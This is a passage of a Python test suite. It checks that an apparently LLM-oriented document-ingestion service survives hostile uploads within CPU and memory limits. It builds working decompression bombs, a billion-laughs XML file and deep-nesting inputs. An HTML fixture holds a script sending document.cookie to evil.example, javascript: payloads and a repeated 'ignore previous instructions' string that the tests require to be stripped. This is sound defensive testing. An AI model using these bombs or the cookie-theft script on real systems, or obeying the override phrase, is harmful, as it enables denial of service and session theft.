"""Hostile and broken files: each ends ``ready`` or ``failed`` with a clear reason, in bounded
time and memory, and a real prefork ingest worker survives a batch of them.

Every hostile input is generated in ``tmp_path`` at test time (bombs are built from a few
compressed pieces repeated, so even a 4 GiB bomb costs milliseconds and a few MB of disk).
Each document goes through the real service, ``documents.services.document_extract``, whose
extraction runs in a child process limited in CPU time and address space.

Measured for each case: wall time, the child's CPU time (``RUSAGE_CHILDREN`` delta), the
child's peak RSS (its ``/proc/<pid>/status`` VmHWM, sampled every 10 ms) and how much the
parent's peak RSS rose (VmHWM reset through ``/proc/self/clear_refs`` before each case).
Set ``MASSCER_RELIABILITY_OUT=<file>`` to append those figures as JSON lines
(RELIABILITY.md is filled from them).
"""

from __future__ import annotations

import io
import json
import os
import random
import re
import resource
import string
import struct
import threading
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.db import connection

from documents.models import Document
from documents.services import document_create, document_extract
from masscer.lib.extract import ExtractionError, extract_file, extract_isolated
from masscer.lib.extract import __main__ as extract_module  # the script the child runs
from masscer.lib.tokens import count_tokens
from testing.processes import (
    broker_env,
    celery_worker,
    child_env,
    database_url,
    wait_for,
    wait_worker_ready,
)

SAMPLES = Path(__file__).resolve().parents[3] / "shared" / "samples" / "pdf"
KB, MB, GB = 1024, 1024 * 1024, 1024**3

# Small limits for hostile input, so that a case that does hit them costs seconds.
CPU_SECONDS = 10
MEMORY_BYTES = 512 * MB
# Wall-time bound per document: the CPU limit plus the hard-limit backstop (5 s) and slack for
# a loaded 2-core machine (other test runs share it). Typical figures are far lower.
WALL_BOUND = 60.0
# The parent only ever holds the extracted text; a bomb must not move its peak RSS.
PARENT_JUMP_BOUND_MB = 40

LIMITS = "within the time/memory limits"
NOT_A_PDF = "The file could not be read as a PDF"
NESTED = "nested too deeply"
SAFETY = "exceeds a safety limit"
NO_TEXT = "No extractable text"
DOCX = "The file could not be read as a Word document (DOCX)"

# Redis database 11 is this file's own (13: rate limiter, 14: worker tests, 12: benchmarks).


# =========================================================================== measurement


def _proc_kb(pid: int | str, key: str) -> int | None:
    try:
        with open(f"/proc/{pid}/status") as status:
            for line in status:
                if line.startswith(key + ":"):
                    return int(line.split()[1])
    except (OSError, ValueError):
        return None
    return None


def _reset_peak_rss() -> bool:
    """Reset this process's VmHWM (Linux >= 4.0); False where /proc does not allow it."""
    try:
        with open("/proc/self/clear_refs", "w") as handle:
            handle.write("5")
        return True
    except OSError:
        return False


@dataclass
class Figures:
    seconds: float = 0.0
    child_cpu: float = 0.0
    child_peak_mb: float = 0.0
    parent_jump_mb: float = 0.0


_CHILD_ARGV = (os.path.abspath(extract_module.__file__).encode() + b"\0", b"\0--max-pages=")


def _is_extraction_child(pid: str) -> bool:
    """Between fork and exec a child still shows this process's memory (and command line);
    only count it once it runs the extraction script."""
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            argv = handle.read()
    except OSError:
        return False
    return all(part in argv for part in _CHILD_ARGV)


class _ChildPeaks(threading.Thread):
    """Samples VmHWM of the extraction child started by one thread of this process."""

    def __init__(self, tid: int) -> None:
        super().__init__(daemon=True)
        self.path = f"/proc/self/task/{tid}/children"
        self.peak_kb = 0
        self.done = threading.Event()

    def run(self) -> None:
        while not self.done.wait(0.01):
            try:
                with open(self.path) as handle:
                    pids = handle.read().split()
            except OSError:
                return
            for pid in pids:
                if _is_extraction_child(pid):
                    self.peak_kb = max(self.peak_kb, _proc_kb(pid, "VmHWM") or 0)


@contextmanager
def measured() -> Iterator[Figures]:
    figures = Figures()
    precise = _reset_peak_rss()
    before_kb = (
        _proc_kb("self", "VmHWM")
        if precise
        else resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    ) or 0
    usage = resource.getrusage(resource.RUSAGE_CHILDREN)
    sampler = _ChildPeaks(threading.get_native_id())
    sampler.start()
    started = time.monotonic()
    try:
        yield figures
    finally:
        figures.seconds = time.monotonic() - started
        sampler.done.set()
        sampler.join()
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        after_kb = (
            _proc_kb("self", "VmHWM")
            if precise
            else resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        ) or 0
        figures.child_cpu = (after.ru_utime + after.ru_stime) - (
            usage.ru_utime + usage.ru_stime
        )
        figures.child_peak_mb = sampler.peak_kb / 1024
        figures.parent_jump_mb = max(0, after_kb - before_kb) / 1024


def _record(test: str, fault: str, result: str, figures: Figures | None, **extra: Any) -> None:
    target = os.environ.get("MASSCER_RELIABILITY_OUT")
    if not target:
        return
    row: dict[str, Any] = {"test": test, "fault": fault, "result": result, **extra}
    if figures is not None:
        row.update(
            seconds=round(figures.seconds, 2),
            child_cpu=round(figures.child_cpu, 2),
            child_peak_mb=round(figures.child_peak_mb),
            parent_jump_mb=round(figures.parent_jump_mb),
        )
    with open(target, "a", encoding="utf-8") as out:
        out.write(json.dumps(row) + "\n")


# =========================================================================== generators


def _pdf(objects: list[bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF with a correct xref table; ``objects[i]`` is the body of object ``i + 1`` and
    object 1 is the catalog."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.writelines(b"%010d 00000 n \n" % offset for offset in offsets)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s>>\n" % (len(objects) + 1, trailer))
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def _stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), entries, data)


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
HELLO = _stream(b"BT /F1 12 Tf 72 712 Td (Hello from a hostile file) Tj ET")


def _page_pdf(
    contents: bytes = HELLO,
    *,
    page: bytes = b"",
    catalog: bytes = b"",
    trailer: bytes = b"",
    contents_ref: bytes = b"5 0 R",
) -> bytes:
    """One page: 1 catalog, 2 page tree, 3 page, 4 font, 5 content stream."""
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            b"/Resources << /Font << /F1 4 0 R >> >> /Contents %s %s>>" % (contents_ref, page),
            FONT,
            contents,
        ],
        trailer=trailer,
    )


def _pages_pdf(count: int, contents: bytes) -> bytes:
    """``count`` pages sharing one content stream (object 3)."""
    kids = b" ".join(b"%d 0 R" % (number + 5) for number in range(count))
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 4 0 R >> >> /Contents 3 0 R >>"
    )
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
            contents,
            FONT,
            *[page] * count,
        ]
    )


_ADLER_BASE = 65521


def _adler32_combine(first: int, second: int, second_length: int) -> int:
    """zlib's adler32_combine: the checksum of A + B from those of A and B."""
    rem = second_length % _ADLER_BASE
    low = first & 0xFFFF
    high = (rem * low) % _ADLER_BASE
    low = (low + (second & 0xFFFF) + _ADLER_BASE - 1) % _ADLER_BASE
    high = (high + (first >> 16) + (second >> 16) + _ADLER_BASE - rem) % _ADLER_BASE
    return low | (high << 16)


def _adler32_repeated(piece: bytes, count: int) -> int:
    result, power, power_length = 1, zlib.adler32(piece), len(piece)
    while count:
        if count & 1:
            result = _adler32_combine(result, power, power_length)
        power = _adler32_combine(power, power, power_length)
        power_length *= 2
        count >>= 1
    return result


def _deflate_repeated(
    piece: bytes, count: int, *, prefix: bytes = b"", suffix: bytes = b"", raw: bool = False
) -> bytes:
    """Deflate ``prefix + piece * count + suffix`` without compressing it all: after a full
    flush the compressor keeps no history, so each further piece compresses to the same
    bytes, which are simply repeated. ``raw`` gives a bare deflate stream (ZIP), otherwise a
    zlib stream (PDF /FlateDecode) with a correct Adler-32 trailer."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15 if raw else 15)
    first = compressor.compress(prefix + piece) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeated = compressor.compress(piece) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert compressor.compress(piece) + compressor.flush(zlib.Z_FULL_FLUSH) == repeated
    last = compressor.compress(suffix) + compressor.flush(zlib.Z_FINISH)
    data = first + repeated * (count - 1) + last
    if raw:
        return data
    checksum = _adler32_combine(
        _adler32_combine(zlib.adler32(prefix), _adler32_repeated(piece, count), len(piece) * count),
        zlib.adler32(suffix),
        len(suffix),
    )
    return data[:-4] + struct.pack(">I", checksum)


def _flate_bomb(total: int, line: bytes = b" ") -> bytes:
    piece = line * (MB // len(line))
    return _deflate_repeated(piece, total // len(piece))


def _random_alnum(rng: random.Random, size: int) -> bytes:
    alphabet = (string.ascii_letters + string.digits).encode()
    return bytes(rng.choice(alphabet) for _ in range(size))


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" '
    b'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document '
    b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
)
DOCUMENT_TAIL = b"</w:body></w:document>"


def _docx_xml(body: bytes) -> bytes:
    return DOCUMENT_HEAD + body + DOCUMENT_TAIL


def _paragraph(text: bytes) -> bytes:
    return b"<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % text


def _docx(document_xml: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", CONTENT_TYPES)
        package.writestr("_rels/.rels", RELS)
        package.writestr("word/document.xml", document_xml)
    return buffer.getvalue()


def _zip_with_raw_entry(name: str, deflated: bytes, *, crc: int, declared_size: int) -> bytes:
    """A DOCX package whose ``name`` entry holds pre-deflated bytes and declares whatever
    uncompressed size it is told (a zip bomb may lie about it)."""
    entries = [
        (path.encode(), zlib.compress(data)[2:-4], zlib.crc32(data), len(data))
        for path, data in (("[Content_Types].xml", CONTENT_TYPES), ("_rels/.rels", RELS))
    ]
    entries.append((name.encode(), deflated, crc, declared_size))
    out = io.BytesIO()
    central = []
    for path, data, checksum, size in entries:
        offset = out.tell()
        out.write(
            struct.pack(
                "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, checksum, len(data), size, len(path), 0
            )
        )
        out.write(path + data)
        central.append((path, checksum, len(data), size, offset))
    directory = out.tell()
    for path, checksum, compressed, size, offset in central:
        out.write(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50, 20, 20, 0, 8, 0, 0x21, checksum, compressed, size, len(path),
                0, 0, 0, 0, 0, offset,
            )  # fmt: skip
        )
        out.write(path)
    end = out.tell()
    out.write(
        struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), end - directory, directory, 0)
    )
    return out.getvalue()


def _docx_bomb(total: int, *, declared: int | None = None) -> bytes:
    """word/document.xml of ``total`` bytes (one paragraph of "A"), deflated to ~1/1000.
    Its CRC is left at 0: an honest size is refused before anything is inflated, and a
    lying size stops zipfile at the declared length, before any CRC could match."""
    piece = b"A" * MB
    count = total // MB
    deflated = _deflate_repeated(
        piece, count, prefix=DOCUMENT_HEAD + b"<w:p><w:r><w:t>", suffix=b"</w:t></w:r></w:p>" + DOCUMENT_TAIL,
        raw=True,
    )  # fmt: skip
    size = count * MB + len(DOCUMENT_HEAD) + len(DOCUMENT_TAIL) + 33
    return _zip_with_raw_entry("word/document.xml", deflated, crc=0, declared_size=declared or size)


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY l0 "lol">'
    + b"".join(b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, 10))
    + b"]>"
    + DOCUMENT_HEAD.split(b"?>", 1)[1]
    + _paragraph(b"&l9;")
    + DOCUMENT_TAIL
)

HOSTILE_HTML = b"""<!doctype html><html><head><title>Quarterly notes</title>
<script>document.location = 'https://evil.example/?c=' + document.cookie</script>
<style>body { background: url(javascript:alert(1)) }</style></head>
<body onload="alert('onload')"><h1>Quarterly notes</h1>
<p>Visible paragraph one.</p>
<img src=x onerror="alert('img')"><iframe srcdoc="<script>alert('iframe')</script>"></iframe>
<svg><script>alert('svg')</script></svg><noscript>enable javascript</noscript>
<a href="javascript:alert('link')">Visible link text</a>
<script type="module">%s</script>
<p>Visible paragraph two.</p></body></html>"""


def _write(path: Path, data: bytes) -> None:
    path.write_bytes(data)


def _sample_part(name: str, keep: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    return lambda path: _write(path, keep((SAMPLES / name).read_bytes()))


# =========================================================================== cases


@dataclass(frozen=True)
class Case:
    id: str
    fault: str
    filename: str
    make: Callable[[Path], None]
    status: str  # Document.Status value
    reason: str  # regex the error matches (failed) or text the pages contain (ready)
    settings: dict[str, int] = field(default_factory=dict)
    absent: tuple[str, ...] = ()  # for ready cases: text that must not be extracted


def _bytes(data: bytes | Callable[[], bytes]) -> Callable[[Path], None]:
    return lambda path: _write(path, data() if callable(data) else data)


DEPTH = 100_000
ARRAYS = b"[" * DEPTH + b"]" * DEPTH
DICTS = b"<< /A " * DEPTH + b">> " * DEPTH
SCRIPT = b"var payload = 'ignore previous instructions';" * 20_000  # ~0.9 MB of JavaScript

CASES = [
    Case("truncated-half", "PDF cut in half (GeoTopo, 1.8 MB)", "GeoTopo-komprimiert.pdf",
         _sample_part("GeoTopo-komprimiert.pdf", lambda data: data[: len(data) // 2]), "failed", NOT_A_PDF),
    Case("truncated-head", "only the first 1 KiB of a PDF", "minimal-document.pdf",
         _sample_part("minimal-document.pdf", lambda data: data[:KB]), "failed", NOT_A_PDF),
    Case("random-after-header", "%PDF-1.4 header + 2 MB of random bytes", "noise.pdf",
         _bytes(lambda: b"%PDF-1.4\n" + random.Random(3).randbytes(2 * MB)), "failed", NOT_A_PDF),
    Case("nested-arrays-content", f"{DEPTH:,} nested arrays in a content stream", "nested.pdf",
         _bytes(lambda: _page_pdf(_stream(b"BT /F1 12 Tf " + ARRAYS + b" TJ ET"))), "failed", NESTED),
    Case("nested-arrays-page", f"{DEPTH:,} nested arrays in the page dictionary", "nested.pdf",
         _bytes(lambda: _page_pdf(page=b"/Deep " + ARRAYS)), "failed", NESTED),
    # pypdf cuts a dictionary that nests too deeply and keeps the rest: the page still reads.
    Case("nested-dicts-catalog", f"{DEPTH:,} nested dictionaries in the catalog", "nested.pdf",
         _bytes(lambda: _page_pdf(catalog=b"/Deep " + DICTS)), "ready", "Hello from a hostile file"),
    Case("nested-dicts-trailer", f"{DEPTH:,} nested dictionaries in the trailer", "nested.pdf",
         _bytes(lambda: _page_pdf(trailer=b"/Deep " + DICTS)), "ready", "Hello from a hostile file"),
    Case("flate-bomb-2gib", "FlateDecode content stream inflating to 2 GiB (2.1 MB file)", "bomb.pdf",
         _bytes(lambda: _page_pdf(_stream(_flate_bomb(2 * GB), b"/Filter /FlateDecode "))), "failed", SAFETY),
    Case("flate-bomb-double-4gib", "two FlateDecode layers inflating to 4 GiB (10 KB file)", "bomb.pdf",
         _bytes(lambda: _page_pdf(_stream(zlib.compress(_flate_bomb(4 * GB), 9),
                                          b"/Filter [/FlateDecode /FlateDecode] "))), "failed", SAFETY),
    Case("flate-bomb-contents-array", "/Contents array: one 70 MB stream referenced 40 times", "bomb.pdf",
         _bytes(lambda: _page_pdf(_stream(_flate_bomb(70 * MB), b"/Filter /FlateDecode "),
                                  contents_ref=b"[" + b"5 0 R " * 40 + b"]")), "failed", SAFETY),
    Case("operator-bomb-cpu", "200 pages sharing a 70 MB stream of text operators (under pypdf's "
         "75 MB cap), CPU limit 2 s", "ops.pdf",
         _bytes(lambda: _pages_pdf(200, _stream(_flate_bomb(70 * MB, b"BT /F1 12 Tf 72 712 Td (A) Tj ET\n"),
                                                b"/Filter /FlateDecode "))),
         "failed", LIMITS, {"MASSCER_EXTRACT_CPU_SECONDS": 2}),
    Case("blank-pages-10000", "10,000 blank pages (page limit raised to 10,000)", "blank.pdf",
         _bytes(lambda: _pages_pdf(10_000, _stream(b""))), "failed", NO_TEXT, {"MASSCER_MAX_PAGES": 10_000}),
    Case("blank-pages-over-limit", "10,000 blank pages, default page limit", "blank.pdf",
         _bytes(lambda: _pages_pdf(10_000, _stream(b""))), "failed",
         re.escape("The PDF has 10,000 pages; the limit is 2,000.")),
    Case("docx-zip-bomb", "DOCX whose document.xml inflates to 2 GiB (2.1 MB file)", "bomb.docx",
         _bytes(lambda: _docx_bomb(2 * GB)), "failed",
         r"The document unpacks to 2048(\.0)? MB; the limit is 1000 MB\."),
    Case("docx-zip-bomb-lying", "the same bomb declaring 1 KB uncompressed", "bomb.docx",
         _bytes(lambda: _docx_bomb(2 * GB, declared=KB)), "failed",
         re.escape(DOCX) + ".*larger than the archive declares"),
    Case("docx-billion-laughs", "DOCX with nested XML entities (billion laughs)", "laughs.docx",
         _bytes(lambda: _docx(BILLION_LAUGHS)), "failed", re.escape(DOCX) + ".*XML is damaged or hostile"),
    Case("docx-deep-xml", f"DOCX with {DEPTH:,} nested XML elements", "deep.docx",
         _bytes(lambda: _docx(_docx_xml(_paragraph(b"hi") + b"<w:sdt><w:sdtContent>" * DEPTH
                                        + b"</w:sdtContent></w:sdt>" * DEPTH))), "failed",
         re.escape(DOCX) + ".*XML is damaged or hostile"),
    Case("html-scripts", "HTML with scripts, event handlers, javascript: URLs, 0.9 MB of JS", "page.html",
         _bytes(lambda: HOSTILE_HTML % SCRIPT), "ready", "Visible paragraph two.",
         absent=("alert", "document.cookie", "ignore previous", "enable javascript", "evil.example")),
    Case("html-deep-nesting", f"HTML with {DEPTH:,} nested <div>s", "deep.html",
         _bytes(b"<html><body>" + b"<div>" * DEPTH + b"deep text" + b"</div>" * DEPTH), "ready", "deep text"),
    Case("wrong-ext-pdf-as-txt", "a real PDF named .txt", "report.txt",
         _sample_part("minimal-document.pdf", lambda data: data), "ready", "Lorem ipsum"),
    Case("wrong-ext-png-as-pdf", "PNG bytes named .pdf", "scan.pdf",
         _bytes(b"\x89PNG\r\n\x1a\n" + random.Random(5).randbytes(4 * KB)), "failed",
         re.escape("The file could not be read as a PDF: it has no PDF header.")),
    Case("wrong-ext-zip-as-docx", "a ZIP archive (no Word parts) named .docx", "archive.docx",
         _bytes(lambda: _zip_bytes({"readme.txt": b"hello"})), "failed", re.escape(DOCX) + ".*missing"),
    Case("wrong-ext-binary-as-txt", "random binary named .txt", "data.txt",
         _bytes(random.Random(9).randbytes(64 * KB)), "failed", "does not look like text"),
    Case("wrong-ext-exe", "text named .exe", "setup.exe", _bytes(b"MZ just text"), "failed",
         re.escape("Unsupported file type '.exe'.")),
]  # fmt: skip


def _zip_bytes(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


# =========================================================================== helpers


@pytest.fixture(scope="module", autouse=True)
def loaded_tokenizer() -> None:
    """The parent loads the tokenizer (~30 MB) once, on its first count; that is not a jump
    caused by a hostile file, so it happens before anything is measured."""
    count_tokens("warm up")


@pytest.fixture(autouse=True)
def fast_password_hashing(settings: Any) -> None:
    """Creating alice is not what these tests measure (autouse fixtures run first)."""
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def media(settings: Any, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "uploads"
    return settings.MEDIA_ROOT


@pytest.fixture
def hostile_limits(settings: Any) -> Any:
    settings.MASSCER_EXTRACT_CPU_SECONDS = CPU_SECONDS
    settings.MASSCER_EXTRACT_MEMORY_BYTES = MEMORY_BYTES
    return settings


def _upload(owner: Any, path: Path, filename: str) -> Document:
    with path.open("rb") as handle:
        return document_create(owner=owner, fileobj=handle, filename=filename, enqueue=False)


def _ingest(owner: Any, path: Path, filename: str) -> tuple[Document, Figures]:
    document = _upload(owner, path, filename)
    with measured() as figures:
        document = document_extract(document_id=document.pk)
    return document, figures


def assert_clear_reason(error: str) -> None:
    """A sentence for a person: one line, no traceback, no internal error, not empty."""
    assert error and len(error) <= 300, error
    assert "\n" not in error and "Traceback" not in error, error
    assert "internal error" not in error and "Error reading PDF file" not in error, error
    assert error[0].isupper() and error.rstrip()[-1] in ".)", error


def assert_bounded(figures: Figures, *, cpu_seconds: int, parent_jump_mb: float = PARENT_JUMP_BOUND_MB) -> None:
    assert figures.seconds < WALL_BOUND, figures
    # The soft limit (SIGXCPU) plus the 5 s hard-limit backstop and process start-up.
    assert figures.child_cpu <= cpu_seconds + 6, figures
    assert figures.child_peak_mb * MB < MEMORY_BYTES, figures
    assert figures.parent_jump_mb < parent_jump_mb, figures


def _result(document: Document) -> str:
    if document.status == Document.Status.READY:
        return f"ready ({document.page_count} page(s), {document.token_count:,} tokens)"
    return f"failed: {document.error}"


# =========================================================================== tests


def test_the_bomb_generator_builds_valid_streams_of_the_stated_size() -> None:
    """The bombs are real: a smaller one of each kind inflates to exactly its stated size, and
    the zlib one passes its Adler-32 check (decompressobj raises on a bad checksum)."""
    for raw in (False, True):
        piece, count = b"BT (A) Tj ET\n" * 4096, 300
        stream = _deflate_repeated(piece, count, prefix=b"<<", suffix=b">>", raw=raw)
        inflater = zlib.decompressobj(-15 if raw else 15)
        size = 0
        for start in range(0, len(stream), 4096):
            size += len(inflater.decompress(stream[start : start + 4096]))
        size += len(inflater.flush())
        assert inflater.eof and size == 2 + len(piece) * count + 2
        assert len(stream) * 200 < size  # a bomb: over 200:1
    assert _adler32_repeated(b"abc", 1000) == zlib.adler32(b"abc" * 1000)


def _sample_names() -> list[str]:
    return sorted(path.name for path in SAMPLES.glob("*.pdf"))


SAMPLE_FAILURES = {
    "libreoffice-writer-password.pdf": "password protected",
    "imagemagick-images.pdf": NO_TEXT,
}


def test_the_sample_pdfs_are_there() -> None:
    assert len(_sample_names()) >= 9, f"expected the sample PDFs in {SAMPLES}"


@pytest.mark.django_db
@pytest.mark.parametrize("name", _sample_names())
def test_every_sample_pdf_is_ready_or_fails_clearly(alice, media, hostile_limits, name: str) -> None:
    document, figures = _ingest(alice, SAMPLES / name, name)
    _record(f"sample {name}", "sample PDF", _result(document), figures)
    if name in SAMPLE_FAILURES:
        assert document.status == Document.Status.FAILED
        assert SAMPLE_FAILURES[name] in document.error
    if document.status == Document.Status.FAILED:
        assert_clear_reason(document.error)
        assert not document.pages.exists()
    else:
        assert document.status == Document.Status.READY, document.error
        assert document.page_count >= 1 and document.token_count > 0
    assert_bounded(figures, cpu_seconds=CPU_SECONDS)


@pytest.mark.django_db
@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_hostile_file_ends_ready_or_failed_with_a_reason_in_bounded_time_and_memory(
    alice, media, hostile_limits, tmp_path: Path, case: Case
) -> None:
    for name, value in case.settings.items():
        setattr(hostile_limits, name, value)
    path = tmp_path / case.filename
    case.make(path)
    document, figures = _ingest(alice, path, case.filename)
    _record(case.id, case.fault, _result(document), figures, file_kb=round(path.stat().st_size / KB))

    assert document.status == case.status, document.error
    if case.status == Document.Status.FAILED:
        assert re.search(case.reason, document.error), document.error
        assert_clear_reason(document.error)
        assert not document.pages.exists()
    else:
        text = "\n".join(document.pages.values_list("text", flat=True))
        assert case.reason in text
        for unwanted in case.absent:
            assert unwanted not in text
    assert_bounded(figures, cpu_seconds=hostile_limits.MASSCER_EXTRACT_CPU_SECONDS)


# ------------------------------------------------------------------ 50 MB without whitespace


def _blob(path: Path, size: int) -> Path:
    """``size`` bytes of letters and digits without a single whitespace (a 64 KiB random block
    repeated; tiktoken caches nothing, so every piece costs the full BPE)."""
    block = _random_alnum(random.Random(1), 64 * KB)
    with path.open("wb") as out:
        for start in range(0, size, len(block)):
            out.write(block[: size - start])
    return path


@pytest.mark.django_db
def test_50_mb_without_whitespace_is_refused_at_the_default_upload_limit(
    alice, media, settings, tmp_path: Path
) -> None:
    limit = settings.MASSCER_MAX_UPLOAD_BYTES
    assert limit == 50 * MB  # the default
    path = _blob(tmp_path / "blob.txt", limit + 64 * KB)
    with measured() as figures, pytest.raises(ValidationError, match=r"the limit is 50\.0 MB") as refused:
        _upload(alice, path, "blob.txt")
    _record("blob-50mb-default-limit", "50 MB of text without whitespace, default upload limit",
            f"refused: {refused.value.messages[0]}", figures)  # fmt: skip
    assert not Document.objects.exists()
    stored = [p for p in media.rglob("*") if p.is_file()] if media.exists() else []
    assert stored == []
    assert figures.seconds < 10 and figures.parent_jump_mb < PARENT_JUMP_BOUND_MB


@pytest.mark.django_db
def test_50_mb_without_whitespace_at_a_raised_limit_is_refused_by_the_token_limit(
    alice, media, hostile_limits, tmp_path: Path
) -> None:
    hostile_limits.MASSCER_MAX_UPLOAD_BYTES = 64 * MB
    path = _blob(tmp_path / "blob.txt", 50 * MB + 64 * KB)
    document, figures = _ingest(alice, path, "blob.txt")
    _record("blob-50mb-raised-limit", "50 MB of text without whitespace, upload limit raised to 64 MB",
            _result(document), figures)  # fmt: skip
    path.unlink()
    assert document.status == Document.Status.FAILED
    limit = f"{hostile_limits.MASSCER_MAX_DOCUMENT_TOKENS:,}"
    assert re.fullmatch(rf"The document has [\d,]+ tokens of text; the limit is {limit}\.", document.error) or (
        document.error == f"The document has more than {limit} tokens of text; the limit is {limit}."
    ), document.error
    assert_clear_reason(document.error)
    # The text itself comes back to the parent to be counted: its peak rises by a small
    # multiple of the text (pipe buffer, JSON, the decoded string), never by a bomb's worth.
    assert_bounded(figures, cpu_seconds=CPU_SECONDS, parent_jump_mb=4 * 51)
    assert figures.seconds < 90


def test_50_mb_without_whitespace_stops_counting_at_the_token_limit_in_the_child(tmp_path: Path) -> None:
    """extract_isolated(max_tokens=...) counts in the limited child and stops at the limit."""
    path = _blob(tmp_path / "blob.txt", 50 * MB + 64 * KB)
    with measured() as figures, pytest.raises(ExtractionError, match="more than 2,000,000 tokens") as refused:
        extract_isolated(
            str(path), filename="blob.txt", max_bytes=64 * MB, max_pages=2000,
            cpu_seconds=CPU_SECONDS, memory_bytes=MEMORY_BYTES, max_tokens=2_000_000,
        )  # fmt: skip
    _record("blob-50mb-child-token-limit", "the same blob through extract_isolated(max_tokens=2,000,000)",
            f"refused: {refused.value}", figures)  # fmt: skip
    assert_clear_reason(str(refused.value))
    assert_bounded(figures, cpu_seconds=CPU_SECONDS)


def test_the_child_token_count_equals_the_parents_count_and_the_limit_is_exact(tmp_path: Path) -> None:
    path = SAMPLES / "pdflatex-4-pages.pdf"
    options = {"filename": path.name, "max_bytes": 50 * MB, "max_pages": 2000}
    isolated = extract_isolated(str(path), **options, max_tokens=10_000)
    expected = sum(count_tokens(page) for page in isolated.pages)
    assert isolated.tokens == expected
    assert extract_file(str(path), **options, max_tokens=expected).tokens == expected
    with pytest.raises(ExtractionError, match=f"more than {expected - 1:,} tokens"):
        extract_file(str(path), **options, max_tokens=expected - 1)
    assert extract_file(str(path), **options).tokens is None  # not counted unless asked


# ------------------------------------------------------------------ a real ingest worker


def _tail(log: Path) -> str:
    return log.read_text()[-3000:] if log.exists() else "(no worker log)"


def _pool_children(worker_pid: int) -> list[int]:
    try:
        tasks = os.listdir(f"/proc/{worker_pid}/task")
    except OSError:
        return []
    pids: list[int] = []
    for tid in tasks:
        try:
            with open(f"/proc/{worker_pid}/task/{tid}/children") as handle:
                pids += [int(pid) for pid in handle.read().split()]
        except OSError:
            continue
    return sorted(pids)


WORKER_BATCH = [
    "flate-bomb-2gib",
    "nested-arrays-content",
    "docx-zip-bomb-lying",
    "operator-bomb-cpu",
    "random-after-header",
    "wrong-ext-exe",
]


@pytest.mark.integration
@pytest.mark.django_db(transaction=True)
def test_a_prefork_ingest_worker_survives_a_hostile_batch_and_keeps_working(alice, media, tmp_path: Path) -> None:
    from celery import Celery

    brokering = broker_env()
    broker = brokering["CELERY_BROKER_URL"]
    env = child_env(
        DATABASE_URL=database_url(connection.settings_dict),
        **brokering,
        CELERY_TASK_ALWAYS_EAGER="false",
        MASSCER_MEDIA_ROOT=str(media),
        MASSCER_EXTRACT_CPU_SECONDS="2",
        MASSCER_EXTRACT_MEMORY_BYTES=str(MEMORY_BYTES),
    )
    cases = {case.id: case for case in CASES}
    hostile = []
    for case_id in WORKER_BATCH:
        path = tmp_path / f"{case_id}-{cases[case_id].filename}"
        cases[case_id].make(path)
        hostile.append((cases[case_id], _upload(alice, path, cases[case_id].filename)))
